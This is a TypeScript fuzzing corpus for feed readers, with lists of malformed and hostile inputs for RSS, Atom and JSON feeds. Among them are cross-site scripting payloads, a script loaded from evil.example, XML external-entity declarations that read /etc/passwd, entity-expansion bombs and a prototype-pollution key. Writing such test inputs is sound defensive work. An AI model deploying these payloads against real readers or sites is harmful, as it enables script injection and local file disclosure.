/**
 * Pieces of input that have broken feed readers before, grouped by what they attack. The byte
 * mutator splices them into seed feeds; the structural generator puts them in item fields.
 */

/** Markup and URLs that would run script if they reached a reader unescaped. */
export const SCRIPT_SNIPPETS: readonly string[] = [
  '<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;img src=x onerror="alert(1)"&gt;',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">x</p>',
  '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<style>body{background:red}</style><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  ' javascript:alert(document.cookie)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];

/** Declarations and references that try entity expansion, external entities or odd references. */
export const ENTITY_SNIPPETS: readonly string[] = [
  '<!DOCTYPE rss [<!ENTITY boom "BOOM">]>',
  '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<!ENTITY % pe SYSTEM "http://127.0.0.1:1/evil.dtd"> %pe;',
  '&boom;', '&xxe;', '&d;', '&nbsp;', '&undefined;', '&#0;', '&#xD800;', '&#x110000;', '&#99999999999;', '&#x;', '&', '&amp', '&#146;', '&#x80;',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<?xml version="1.0" encoding="ISO-8859-1"?>',
  '<?xml version="1.0" encoding="UTF-16"?>',
  '<?xml version="1.1" encoding="x-bogus"?>',
];

/** CDATA and comment edges. */
export const MARKUP_EDGE_SNIPPETS: readonly string[] = [
  ']]>', '<![CDATA[', '<![CDATA[<script>alert(1)</script>]]>', '<![CDATA[ ]]]]><![CDATA[> ]]>', '<!-- ', ' -->', '<!-- -- -->', '<', '>', '</', '"', "'", '<a', '/>', '=',
  '</channel>', '<channel>', '<item>', '</item><item>', '</item>', '<entry>', '</entry>', '</feed>', '<rss version="2.0">',
  '<feed xmlns="http://www.w3.org/2005/Atom">', '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div></content>',
  '<x:y xmlns:x="">', 'xmlns="http://www.w3.org/1999/xhtml"', 'xml:base="javascript:alert(1)//"', 'xml:lang="\u0000"',
  '<div>'.repeat(400), '<b>'.repeat(2000),
];

/** Dates no calendar has, or at its edges. */
export const DATE_SNIPPETS: readonly string[] = [
  'Tue, 31 Feb 99999 25:61:61 +9999', 'Mon, 01 Jan 0000 00:00:00 GMT', '-271821-04-20T00:00:00Z', '+275760-09-13T00:00:00.001Z',
  '275760-09-13T00:00:01Z', '9999-12-31T23:59:60Z', '1970-01-01T00:00:00Z', '1969-12-31T23:59:59-23:59', '0000-00-00T00:00:00Z',
  '2026-13-45T99:99:99Z', '1e400', '9999999999999', 'NaN', 'yesterday', '', '2038-01-19T03:14:08Z', '2106-02-07T06:28:16Z',
];

/** Bytes that are not text a feed may hold, as strings of code units 0–255 (written as latin1). */
export const RAW_BYTE_SNIPPETS: readonly string[] = [
  '\x00', '\x00\x00\x00\x00', '\x01\x02\x03', '\x0b\x0c', '\x1b[31m', '\x7f', '\x85', '\x9f', '\x80\x81\x8d\x8f\x90\x9d',
  '\xff\xfe', '\xfe\xff', '\xef\xbb\xbf', '\xc0\xaf', '\xc0\x80', '\xed\xa0\x80', '\xed\xbf\xbf', '\xf4\x90\x80\x80', '\xf8\x88\x80\x80\x80',
  '\x80', '\xbf\xbf', '\xe2\x82', '\xe2\x80\xa8', '\xe2\x80\xae', '\xef\xbf\xbe', '\xef\xbf\xbf', '\xf0\x9f\x92\xa9', '\r', '\r\n', '\t',
];

/** JSON Feed specific breakage. */
export const JSON_SNIPPETS: readonly string[] = [
  '"\\ud800"', '"\\udc00x"', '"\\u0000"', '"\\uDBFF\\uDFFF"', 'null', '[]', '{}', '1e999', '-0', '"items": null', '"items": {}', '"items": [null, 1, "x", []]',
  '"id": 12345', '"id": null', '"id": ""', '"url": "javascript:alert(1)"', '"url": "//evil.example/"', '"content_html": "<script>alert(1)</script>"',
  '"date_published": "+275760-09-13T00:00:00.000Z"', '"version": "https://jsonfeed.org/version/9"', '"attachments": [{"url": "javascript:alert(1)"}]',
  '"tags": [1, null, {"a": 1}]', '"authors": "nobody"', ',', ':', '"', '{', '}', '[', ']', '\\', '"__proto__": {"polluted": true}',
];

export const ALL_SNIPPETS: readonly string[] = [
  ...SCRIPT_SNIPPETS,
  ...ENTITY_SNIPPETS,
  ...MARKUP_EDGE_SNIPPETS,
  ...DATE_SNIPPETS,
  ...RAW_BYTE_SNIPPETS,
  ...JSON_SNIPPETS,
];

/** A snippet's bytes: raw byte snippets are latin1 (one byte per code unit); the rest UTF-8. */
export function snippetBytes(snippet: string): Buffer {
  return RAW_BYTE_SNIPPETS.includes(snippet) ? Buffer.from(snippet, 'latin1') : Buffer.from(snippet, 'utf8');
}
